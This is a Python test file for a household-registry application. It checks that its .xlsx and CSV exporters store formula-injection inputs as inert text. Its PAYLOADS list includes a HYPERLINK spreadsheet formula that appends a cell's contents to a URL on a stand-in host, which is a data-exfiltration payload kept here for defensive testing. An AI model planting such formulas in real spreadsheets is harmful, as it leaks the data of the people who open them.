"""No formula injection: a text that a spreadsheet would run (=, +, -, @, tab, carriage return first) is
written as text by every .xlsx and .csv writer, and reads back as the text it was."""

from __future__ import annotations

import csv
import io

from django.test import TestCase
from openpyxl import load_workbook

from fupin.lib.xlsx import safe_csv_row, xlsx_response
from fupin.registry import exports
from fupin.registry.models import Household
from fupin.test import BaseTestCase, make_household

PAYLOADS = ['=HYPERLINK("http://example.invalid/?d="&H2,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


class WriterTests(TestCase):
    def test_the_generic_workbook_writes_formulas_as_text(self):
        response = xlsx_response("x.xlsx", ["名称", "数量"], [[text, 5] for text in PAYLOADS])
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [(row[0].value, row[0].data_type, row[1].value) for row in sheet.iter_rows(min_row=2)]
        # text stays text (XML reads a carriage return back as a line feed), numbers stay numbers
        self.assertEqual(cells, [(text.replace("\r", "\n"), "s", 5) for text in PAYLOADS])

    def test_a_csv_row_prefixes_formulas_and_leaves_the_rest(self):
        self.assertEqual(safe_csv_row(["=1+1", "张三", -3, "a-b"]), ["'=1+1", "张三", -3, "a-b"])


class HouseholdExportTests(BaseTestCase):
    def test_the_household_exports_carry_a_payload_as_text(self):
        household = make_household(self.alice)
        Household.objects.filter(pk=household.pk).update(group_name=PAYLOADS[0])
        rows = list(exports.rows(Household.objects.all(), full_ids=False))
        sheet = load_workbook(exports.xlsx_file(iter(rows))).active
        texts = [(c.value, c.data_type) for c in sheet[2] if c.value == PAYLOADS[0]]
        self.assertEqual(texts, [(PAYLOADS[0], "s")])
        text = "".join(exports.csv_chunks(iter(rows)))
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        self.assertIn("'" + PAYLOADS[0], cells)
        self.assertNotIn(PAYLOADS[0], cells)

    def test_an_imports_error_report_carries_a_payload_as_text(self):
        from fupin.registry.tests.test_imports import csv_bytes, template_rows
        from fupin.transfer import pipeline
        from fupin.transfer.spec import get_spec

        rows = template_rows(**{"村民小组": PAYLOADS[0], "行政村代码": "不是代码"})
        batch = pipeline.stage(spec=get_spec("households"), filename="x.csv", content=csv_bytes(rows), by=self.alice)
        sheet = load_workbook(io.BytesIO(pipeline.error_report(batch, reveal=True))).active
        found = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value == PAYLOADS[0]]
        self.assertEqual(found, [(PAYLOADS[0], "s")])
